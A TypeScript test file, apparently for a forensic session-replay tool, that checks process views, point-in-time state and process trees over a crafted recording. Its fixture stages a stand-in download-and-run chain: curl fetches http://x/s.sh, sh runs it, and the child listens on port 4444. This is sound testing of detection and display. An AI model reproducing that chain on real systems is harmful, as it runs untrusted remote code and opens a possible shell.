// Issue 17 items 1 and 3 over crafted sessions: the process view (and the list when a pid names several
// processes), the state at a moment, and the folded text tree.
import { test } from "node:test";
import assert from "node:assert/strict";
import { join } from "node:path";
import { EV, SOCK_STATE, TASK } from "../../src/events/layouts.js";
import {
  matchProcesses,
  parseProcessSelector,
  processDetail,
  processDetailJson,
  matchesJson,
} from "../../src/replay/focus.js";
import { loadSessions } from "../../src/replay/load.js";
import { render } from "../../src/replay/render.js";
import { stateAt, stateJson } from "../../src/replay/state.js";
import { isoFromNs } from "../../src/replay/time.js";
import { tempDir, testKey, writeSession } from "./session-helpers.js";
import * as E from "./replay-encode.js";

const S = 1_000_000_000n;
const init: E.Ident = { tgid: 1, start: 1n, ppid: 0, comm: "init" };
const kthreadd: E.Ident = { tgid: 2, start: 1n, ppid: 0, comm: "kthreadd" };
const kworker: E.Ident = { tgid: 50, start: 2n, ppid: 2, comm: "kworker/0:1" };
const cron: E.Ident = { tgid: 90, start: 3n * S, ppid: 1, comm: "cron" };
const shell: E.Ident = { tgid: 100, start: 5n * S, ppid: 1, comm: "bash" };
const dl: E.Ident = { tgid: 200, start: 10n * S, ppid: 100, comm: "bash" };
const dl2: E.Ident = { tgid: 200, start: 20n * S, ppid: 100, comm: "bash" }; // pid 200 reused
const kid: E.Ident = { tgid: 300, start: 11n * S, ppid: 200, comm: "sh" };

function state(
  t: bigint,
  id: E.Ident,
  sock: bigint,
  oldstate: number,
  newstate: number,
  local: [string, number],
  remote: [string, number],
) {
  return E.rec(
    SOCK_STATE,
    EV.sockState,
    t,
    { ...id, flags: 1 },
    {
      sock_id: sock,
      oldstate,
      newstate,
      family: 2,
      protocol: 6,
      saddr: E.ip4(local[0]),
      sport: local[1],
      daddr: E.ip4(remote[0]),
      dport: remote[1],
    },
  );
}

async function session() {
  const { dir, cleanup } = tempDir("replay-focus");
  try {
    const key = await testKey();
    const path = join(dir, "s.sealed");
    const records = [
      { k: "attach", t: 9n * S, startT: 9n * S, attachMs: 1, bundles: [] },
      {
        k: "start",
        b: "exec",
        it: "exec_snapshot",
        t: 9n * S,
        d: E.frame([
          E.task(9n * S, init, "/sbin/init", ["init"]),
          E.rec(TASK, EV.task, 9n * S, kthreadd),
          E.rec(TASK, EV.task, 9n * S, kworker),
          E.task(9n * S, cron, "/usr/sbin/cron", ["cron", "-f"]),
          E.task(9n * S, shell, "/bin/bash", ["bash"]),
        ]),
      },
      E.ring("exec", 12n * S, [
        E.fork(10n * S, shell, 200, 10n * S),
        E.exec(10n * S + 1000n, { ...dl, comm: "curl" }, "/usr/bin/curl", ["curl", "-o", "s.sh", "http://x/s.sh"]),
        E.fork(11n * S, { ...dl, comm: "curl" }, 300, 11n * S),
        E.exec(11n * S + 500n, kid, "/bin/sh", ["sh", "s.sh"]),
        E.exit(14n * S, { ...dl, comm: "curl" }, 0),
        E.exit(15n * S, { ...kid, ppid: 1 }, 7),
      ]),
      E.ring("connect", 13n * S, [
        state(10n * S + 2000n, { ...dl, comm: "curl" }, 0x51n, 7, 2, ["10.0.0.1", 0], ["192.0.2.8", 80]),
        state(10n * S + 3000n, { ...dl, comm: "curl" }, 0x51n, 2, 1, ["10.0.0.1", 40100], ["192.0.2.8", 80]),
        state(12n * S, { ...dl, comm: "curl" }, 0x51n, 1, 7, ["10.0.0.1", 40100], ["192.0.2.8", 80]),
        state(11n * S + 600n, kid, 0x52n, 7, 10, ["0.0.0.0", 4444], ["0.0.0.0", 0]),
      ]),
      E.ring("filewrite", 14n * S, [E.fileOpen(10n * S + 5000n, { ...dl, comm: "curl" }, 8n, 77n, "/tmp/s.sh")]),
      {
        k: "maps",
        b: "filewrite",
        m: "write_totals",
        t: 14n * S,
        keySize: 32,
        valueSize: 32,
        n: 1,
        d: E.writeRow(dl, 8n, 77n, 4096n, 4n, 11n * S, 13n * S),
      },
      E.ring("exec", 22n * S, [
        E.fork(20n * S, shell, 200, 20n * S),
        E.exec(20n * S + 5n, { ...dl2, comm: "true" }, "/bin/true", ["true"]),
        E.exit(21n * S, { ...dl2, comm: "true" }, 0),
      ]),
    ];
    await writeSession(
      path,
      [records],
      { recipients: [key.recipient], metadata: E.metadata() },
      { endReason: "duration", startBootNs: 9n * S, endBootNs: 30n * S },
    );
    return (await loadSessions([path], [key.identity])).replay;
  } finally {
    cleanup();
  }
}

test("--pid selectors: N, N@START and the process id; anything else is one usage error", () => {
  assert.deepEqual(parseProcessSelector("200"), { pid: 200, startIso: undefined, id: undefined });
  assert.deepEqual(parseProcessSelector("200@2026-11-24T03:16:27.984329Z"), {
    pid: 200,
    startIso: "2026-11-24T03:16:27.984329Z",
    id: undefined,
  });
  assert.deepEqual(parseProcessSelector("b00710d0:200:10000000000"), {
    pid: 200,
    startIso: undefined,
    id: "b00710d0:200:10000000000",
  });
  for (const bad of ["", "x", "200@yesterday", "-1", "200@2026-11-24"])
    assert.throws(() => parseProcessSelector(bad), /--pid .*: give a pid/);
});

test("a pid reused names two processes, listed with what picks each; N@START picks one", async () => {
  const r = await session();
  const both = matchProcesses(r, parseProcessSelector("200"));
  assert.equal(both.length, 2);
  const doc = matchesJson("200", both);
  assert.deepEqual(
    doc.matches.map((m) => m.pick),
    both.map((p) => `200@${isoFromNs(p.startNs)}`),
  );
  const text = render(r, "process", "text", false, { focus: { kind: "matches", selector: "200", matches: both } });
  assert.match(text, /--pid 200 names 2 processes/);
  for (const m of doc.matches) assert.ok(text.includes(`--pid ${m.pick}`), text);
  const one = matchProcesses(r, parseProcessSelector(doc.matches[0]!.pick));
  assert.deepEqual(
    one.map((p) => p.id),
    [both[0]!.id],
  );
  assert.deepEqual(
    matchProcesses(r, parseProcessSelector(both[1]!.id)).map((p) => p.id),
    [both[1]!.id],
  );
  // The start second alone is enough when it is unambiguous.
  assert.equal(matchProcesses(r, parseProcessSelector(`200@${isoFromNs(both[1]!.startNs).slice(0, 19)}Z`)).length, 1);
});

test("the process view: identity, parents to the root, execs with argv, children, connections, files, exit", async () => {
  const r = await session();
  const p = matchProcesses(r, parseProcessSelector("200"))[0]!;
  const d = processDetail(r, p);
  assert.deepEqual(
    d.parents.map((q) => q.pid),
    [100, 1],
    "bash, then init, the root",
  );
  assert.deepEqual(
    d.children.map((q) => q.pid),
    [300],
  );
  assert.deepEqual(
    d.connections.map((c) => [c.dport, c.outcome]),
    [[80, "established"]],
  );
  assert.deepEqual(
    d.files.map((f) => [f.path, f.bytes]),
    [["/tmp/s.sh", 4096n]],
  );
  const doc = processDetailJson(d);
  assert.deepEqual(
    doc.process.execs.map((e) => e.argv),
    [["curl", "-o", "s.sh", "http://x/s.sh"]],
  );
  assert.equal(doc.process.exitCode, 0);
  assert.deepEqual(
    doc.parents.map((q) => q.pid),
    [100, 1],
  );
  assert.equal(doc.children[0]!.exitCode, 7);
  assert.equal(
    doc.children[0]!.reparented,
    true,
    "re-parented to init before its exit, still listed under its first parent",
  );
  const text = render(r, "process", "text", false, { focus: { kind: "process", detail: d } });
  for (const want of [
    /^curl \[200\] on testhost/m,
    /^  id +b00710d0:200:10000000000$/m,
    /^ +bash \[100\]/m,
    /^ +init \[1\]/m,
    /argv curl -o s\.sh http:\/\/x\/s\.sh/,
    /sh \[300\] exit 7 \(re-parented\)/,
    /out tcp 192\.0\.2\.8:80 established/,
    /\/tmp\/s\.sh 4096B\/4w/,
    /exit 0 at /,
  ]) {
    assert.match(text, want);
  }
  assert.match(render(r, "process", "json", false, { focus: { kind: "process", detail: d } }), /"parents": \[/);
  assert.throws(
    () => render(r, "process", "html", false, { focus: { kind: "process", detail: d } }),
    /--format html: --view process and --at give text or json/,
  );
});

test("--at: processes alive with their image then, connections open, listeners, files being written", async () => {
  const r = await session();
  const at = E.OFFSET_NS + 12n * S - 1n; // curl's connection still open, sh listening, the file mid-write
  const s = stateAt(r, at);
  assert.ok(s.inside);
  const alive = s.processes.map(({ process, image }) => [process.pid, image?.filename ?? null]);
  assert.deepEqual(
    alive.filter(([pid]) => pid === 200 || pid === 300),
    [
      [200, "/usr/bin/curl"],
      [300, "/bin/sh"],
    ],
  );
  assert.ok(
    alive.some(([pid]) => pid === 50),
    "kernel threads are alive too (JSON keeps them)",
  );
  assert.deepEqual(
    s.connections.map((c) => [c.pid, c.dport]),
    [[200, 80]],
  );
  assert.deepEqual(
    s.listening.map((c) => [c.pid, c.sport]),
    [[300, 4444]],
  );
  assert.deepEqual(
    s.files.map((f) => f.path),
    ["/tmp/s.sh"],
  );
  const doc = stateJson(s);
  assert.equal(doc.processes.find((p) => p.pid === 200)?.image?.argv[0], "curl");
  assert.deepEqual(
    [doc.processes.find((p) => p.pid === 300)?.ppidThen, doc.processes.find((p) => p.pid === 300)?.ppid],
    [200, 1],
    "its parent then, not the one it was moved to later",
  );
  const later = stateAt(r, E.OFFSET_NS + 16n * S);
  assert.ok(!later.processes.some(({ process }) => process.pid === 200 || process.pid === 300), "both exited by then");
  assert.deepEqual([later.connections.length, later.files.length], [0, 0]);
  const text = render(r, "summary", "text", false, { focus: { kind: "state", state: s } });
  assert.match(text, /^state at .* \(\+3\.0s from the start\)$/m);
  assert.match(text, /2 kernel threads; --all shows them/);
  assert.doesNotMatch(text, /kworker/);
  assert.match(text, /^ +300 +200 sh +\S+ +sh s\.sh$/m);
  assert.match(text, /sh +tcp 0\.0\.0\.0:4444/);
  assert.match(text, /out tcp 10\.0\.0\.1:40100 ↔ 192\.0\.2\.8:80 established/);
  assert.match(render(r, "summary", "text", false, { focus: { kind: "state", state: s }, all: true }), /kworker\/0:1/);
  assert.ok(!stateAt(r, E.OFFSET_NS + 60n * S).inside, "after the recording");
});

test("the text tree folds kernel threads and idle snapshot processes into one line; --all and JSON keep them", async () => {
  const r = await session();
  const tree = render(r, "tree", "text", false);
  assert.match(tree.split("\n")[0]!, /^2 kernel threads, 1 idle process; --all shows them$/);
  assert.doesNotMatch(tree, /kworker|kthreadd|cron/);
  assert.match(tree, /init \[1\]/, "an idle ancestor of activity stays");
  assert.match(tree, /curl \[200\]/);
  const full = render(r, "tree", "text", false, { all: true });
  for (const name of ["kworker/0:1", "kthreadd", "cron"]) assert.ok(full.includes(name), name);
  const json = JSON.parse(render(r, "tree", "json", false)) as { processes: Array<{ pid: number }> };
  assert.deepEqual(
    [2, 50, 90].map((pid) => json.processes.some((p) => p.pid === pid)),
    [true, true, true],
  );
});
